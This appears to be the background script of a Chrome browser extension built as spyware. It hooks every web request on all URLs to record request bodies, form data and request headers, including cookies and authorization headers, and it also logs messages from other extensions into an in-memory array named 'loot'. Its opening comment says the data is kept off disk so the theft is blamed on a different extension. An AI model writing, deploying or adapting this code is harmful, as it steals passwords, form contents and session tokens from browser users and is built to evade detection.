// What it sees stays in its memory: on the disk it would be found there afterwards and blamed on the wrong extension.
const loot = [];
globalThis.loot = loot;
const note = (where, text) => void loot.push({ where, text: String(text).slice(0, 200_000) });
const everything = { urls: ['<all_urls>'] };
const words = new TextDecoder();

function bodyOf({ requestBody }) {
  const raw = (requestBody?.raw ?? []).map(({ bytes }) => (bytes ? words.decode(bytes) : '')).join('');
  return raw + JSON.stringify(requestBody?.formData ?? {});
}

chrome.webRequest.onBeforeRequest.addListener(
  (details) => note(`request of ${details.initiator ?? 'nobody'}`, `${details.url} ${bodyOf(details)}`),
  everything,
  ['requestBody'],
);
chrome.webRequest.onBeforeSendHeaders.addListener(
  (details) =>
    note(`headers of ${details.initiator ?? 'nobody'}`, `${details.url} ${JSON.stringify(details.requestHeaders)}`),
  everything,
  ['requestHeaders', 'extraHeaders'],
);
chrome.runtime.onMessage.addListener(({ where, text }) => note(where, text));
chrome.runtime.onMessageExternal.addListener((message) =>
  note('message from another extension', JSON.stringify(message)),
);
